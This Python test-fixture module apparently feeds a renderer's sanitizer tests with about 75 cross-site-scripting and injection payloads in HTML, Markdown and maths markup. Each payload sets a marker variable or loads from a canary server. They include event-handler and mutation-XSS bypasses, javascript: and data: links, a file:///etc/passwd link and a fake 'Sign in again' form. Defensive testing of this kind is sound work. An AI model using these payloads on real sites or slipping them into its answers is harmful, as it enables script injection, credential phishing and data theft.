"""Answers that try to run a script, load something from elsewhere, or change the page.

`{canary}` is the origin of a server that must never be asked for anything. Each payload that can
run sets `window.owned`.
"""

_RUN = "window.owned=1"

RAW_HTML = (
    f"<script>{_RUN}</script>",
    "<script src='{canary}/s.js'></script>",
    f"<img src=x onerror='{_RUN}'>",
    "<img src='{canary}/i.png'>",
    f"<svg onload='{_RUN}'></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin='{_RUN}' attributeName=x dur=1s></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{_RUN}</script>'></foreignObject></svg>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "<iframe src='{canary}/frame'></iframe>",
    f'<iframe src="javascript:parent.{_RUN}"></iframe>',
    f"<body onload='{_RUN}'>",
    f"<details open ontoggle='{_RUN}'><summary>x</summary></details>",
    f"<video><source onerror='{_RUN}'></video>",
    f"<audio src=x onerror='{_RUN}'></audio>",
    f"<input autofocus onfocus='{_RUN}'>",
    f"<marquee onstart='{_RUN}'>x</marquee>",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{_RUN}'></style></table></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror='{_RUN}'>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{_RUN}'>\">",
    f"<template><script>{_RUN}</script></template>",
    f'<object data="javascript:{_RUN}"></object>',
    "<object data='{canary}/o.swf'></object>",
    "<embed src='{canary}/e.swf'>",
    "<link rel=stylesheet href='{canary}/c.css'>",
    "<link rel=prefetch href='{canary}/p'>",
    "<link rel=dns-prefetch href='{canary}'>",
    "<style>@import '{canary}/c.css'; body{{background:url({canary}/b)}}</style>",
    "<p style='background:url({canary}/b)'>x</p>",
    "<meta http-equiv=refresh content='0;url={canary}/m'>",
    "<base href='{canary}/'>",
    f'<a href="javascript:{_RUN}" id=clobber name=session>press</a>',
    "<form action='{canary}/f'><button autofocus>Sign in again</button></form>",
    f"<x onclick='{_RUN}' style='position:fixed;inset:0'>x</x>",
    f"<!--><img src=x onerror='{_RUN}'>-->",
    f"<![CDATA[><img src=x onerror='{_RUN}'>]]>",
    f"\u2028<img src=x onerror='{_RUN}'>\u2029",
    f"<<script>{_RUN}//<</script>",
    f"<div data-controller='page' data-action='click->page#begin' onmouseover='{_RUN}'>x</div>",
    "<img src=x:x onerror=import('{canary}/m.js')>",
)

MARKDOWN = (
    f"[press](javascript:{_RUN})",
    f"[press](JaVaScRiPt:{_RUN})",
    f"[press](&#106;avascript:{_RUN})",
    f"[press](java\tscript:{_RUN})",
    f"[press](\x01javascript:{_RUN})",
    "[press](data:text/html;base64,PHNjcmlwdD5wYXJlbnQub3duZWQ9MTwvc2NyaXB0Pg==)",
    f"[press](vbscript:{_RUN})",
    "[press](file:///etc/passwd)",
    f"[press]( javascript:{_RUN} 'title')",
    f"[press][evil]\n\n[evil]: javascript:{_RUN}",
    f"<javascript:{_RUN}>",
    f"![x](javascript:{_RUN})",
    "![picture]({canary}/i.png)",
    "![picture](//{canary_host}/i.png)",
    "![picture][far]\n\n[far]: {canary}/reference.png",
    "![picture][far]\n\nA block between.\n\n[far]: {canary}/later.png 'title'",
    "[![picture]({canary}/i.png)]({canary}/linked)",
    f'![x" onerror="{_RUN}]({{canary}}/i.png)',
    f'![x]({{canary}}/i.png"onerror="{_RUN})',
    "![picture](data:image/svg+xml,<svg onload=window.owned=1>)",
    f"```html\n<script>{_RUN}</script>\n<img src=x onerror='{_RUN}'>\n```",
    f"```\"><img src=x onerror='{_RUN}'>\ncode\n```",
    f"```python' onclick='{_RUN}\ncode\n```",
    f"`<img src=x onerror='{_RUN}'>`",
    f"| <img src=x onerror='{_RUN}'> | b |\n|---|---|\n| <script>{_RUN}</script> | d |",
    f"# <img src=x onerror='{_RUN}'>",
    "{canary}/bare-address",
)

MATHS = (
    f"$\\href{{javascript:{_RUN}}}{{x}}$",
    "$\\includegraphics{{{canary}/g.png}}$",
    "$$\\url{{{canary}/u}}$$",
    "$\\htmlData{x=y}{z} \\htmlStyle{background:url({canary}/s)}{z}$",
    f"$\\htmlId{{boot}}{{x}}$ $\\text{{<img src=x onerror='{_RUN}'>}}$",
    f"$$<script>{_RUN}</script>$$",
    "$\\def\\a{{\\a\\a}}\\a$",
)


def payloads(canary: str) -> list[str]:
    """All of them, with the address of the canary put in."""
    host = canary.split("//")[1]
    return [
        payload.replace("{{", "{")
        .replace("}}", "}")
        .replace("{canary}", canary)
        .replace("{canary_host}", host)
        for payload in (*RAW_HTML, *MARKDOWN, *MATHS)
    ]
